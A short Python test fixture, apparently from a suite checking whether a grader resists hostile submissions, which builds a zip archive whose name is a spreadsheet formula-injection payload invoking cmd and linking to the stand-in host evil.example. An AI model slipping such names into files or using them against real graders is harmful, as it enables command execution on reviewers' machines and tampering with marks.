"""115a: an archive whose name is a formula of a spreadsheet.

A naive grader writes the name into a list of marks, and the spreadsheet that opens the list runs it.
expect: all unfinished
"""

import zipfile
from pathlib import Path


def hand_in(folder: Path, target: dict) -> Path:
    archive = folder / "=cmd|' -c calc'!A0+HYPERLINK(\"evil.example\";\"marks\").zip"
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("+1+1/vault.py", "x = 1\n")
    return archive
